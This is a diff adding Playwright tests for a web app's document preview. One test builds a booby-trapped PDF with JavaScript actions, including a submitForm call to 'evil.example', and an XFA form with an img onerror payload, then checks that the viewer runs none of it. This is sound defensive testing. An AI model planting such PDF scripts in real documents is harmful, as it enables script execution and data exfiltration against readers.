@@ -1,9 +1,10 @@
 import { randomUUID } from "node:crypto";
 import { mkdirSync, rmSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { PDFDocument, StandardFonts } from "pdf-lib";
+import { PDFDict, PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";
 import type { Page } from "playwright/test";
 import { contactHref } from "@/lib/filter/url";
+import { makePng } from "../picture-heads";
 import { openInbox } from "./inbox-contacts";
 import { createStaff, query, removeStaff, signInAs, signInCookie, type TestStaff } from "./sign-in";
 import { expect, findViolations, test } from "./test";
@@ -94,6 +95,81 @@ test("a picture and a text are shown in frames where nothing runs, one at a time
   await expect(frame("notes.html").contentFrame().getByText("Call back on Monday")).toBeVisible();
   expect(await frame("notes.html").getAttribute("sandbox")).toBe("");
   await expect(frame("diagram.png")).toHaveCount(0);
+});
+
+test("nothing in a PDF runs: neither its scripts, nor its form in XML, nor anything from elsewhere", async ({
+  page,
+}) => {
+  const document = await PDFDocument.load(await makePdf());
+  const context = document.context;
+  const script = (text: string) => context.obj({ S: "JavaScript", JS: PDFString.of(text) });
+  const attack = script("app.alert('run'); this.submitForm('https://evil.example'); document.title = 'run'");
+  document.catalog.set(PDFName.of("OpenAction"), context.register(attack));
+  document.getPage(0).node.set(PDFName.of("AA"), context.obj({ O: attack }));
+  const names = context.obj({ JavaScript: { Names: [PDFString.of("run"), attack] } });
+  document.catalog.set(PDFName.of("Names"), names);
+  const field = document.getForm().createTextField("amount");
+  field.addToPage(document.getPage(0), { x: 60, y: 600, width: 200, height: 20 });
+  field.acroField.dict.set(PDFName.of("AA"), context.obj({ C: attack, F: attack, K: attack, V: attack }));
+  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
+    <subform><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="run()"/></body>
+    </exData></subform></template></xdp:xdp>`;
+  // Last of all, since pdf-lib takes it away wherever it looks at the form.
+  document.catalog
+    .lookup(PDFName.of("AcroForm"), PDFDict)
+    .set(PDFName.of("XFA"), context.register(context.flateStream(xfa)));
+  const bytes = await document.save({ updateFieldAppearances: false, useObjectStreams: false });
+  expect(Buffer.from(bytes).includes("/XFA ")).toBe(true);
+  await add("form.pdf", bytes);
+
+  const asked: URL[] = [];
+  const dialogs: string[] = [];
+  page.on("request", (request) => asked.push(new URL(request.url())));
+  page.on("dialog", (dialog) => {
+    dialogs.push(dialog.message());
+    return dialog.dismiss();
+  });
+  const workers: string[] = [];
+  page.on("worker", (worker) => workers.push(worker.url()));
+  await preview(page, "form.pdf");
+  const viewer = page.getByRole("region", { name: "Preview of form.pdf" });
+  await expect(viewer.getByText("Scope of the migration")).toBeAttached();
+  await viewer.getByRole("button", { name: "Next page" }).click();
+  await expect(viewer.getByText("What we need to see first")).toBeAttached();
+
+  expect(dialogs).toEqual([]);
+  expect(await page.title()).not.toBe("run");
+  const { origin } = new URL(page.url());
+  expect(workers).toHaveLength(1);
+  expect(workers[0]).toMatch(new RegExp(`^${origin}/_next/static/`));
+  expect(asked.filter((url) => url.origin !== origin && url.protocol !== "data:")).toEqual([]);
+  expect(asked.filter((url) => /quickjs|sandbox/.test(url.pathname))).toEqual([]);
+  expect((await page.request.get("/pdfjs/wasm/quickjs-eval.wasm")).status()).toBe(404);
+  expect((await page.request.get("/pdfjs/wasm/openjpeg.wasm")).status()).toBe(200);
+});
+
+test("a PDF's page that is absurdly long says so, and the others are read all the same", async ({ page }) => {
+  const document = await PDFDocument.load(await makePdf());
+  document.insertPage(1, [2, 14_400]);
+  await add("roll.pdf", await document.save());
+  await preview(page, "roll.pdf");
+  const viewer = page.getByRole("region", { name: "Preview of roll.pdf" });
+  await expect(viewer.getByText("Page 1 of 3")).toBeVisible();
+  await viewer.getByRole("button", { name: "Next page" }).click();
+  await expect(viewer.getByRole("alert")).toHaveText(/^This page is too long, wide or small to be shown here\./);
+  await viewer.getByRole("button", { name: "Next page" }).click();
+  await expect(viewer.getByText("What we need to see first")).toBeAttached();
+  await expect(viewer.getByRole("alert")).toHaveCount(0);
+});
+
+test("a picture of too many pixels is offered as a download, and never comes to the browser", async ({ page }) => {
+  await add("plan.png", makePng({ width: 30_000, height: 30_000 }));
+  const asked: string[] = [];
+  page.on("request", (request) => asked.push(request.url()));
+  await preview(page, "plan.png");
+  await expect(page.getByText("The picture has too many pixels to be shown here.")).toBeVisible();
+  await expect(page.getByRole("link", { name: /^Download/ })).toBeVisible();
+  expect(asked.filter((url) => /\/documents\/.*\?preview/.test(url))).toEqual([]);
 });
 
 test("from the inbox's panel a document opens beside the message", async ({ page }) => {
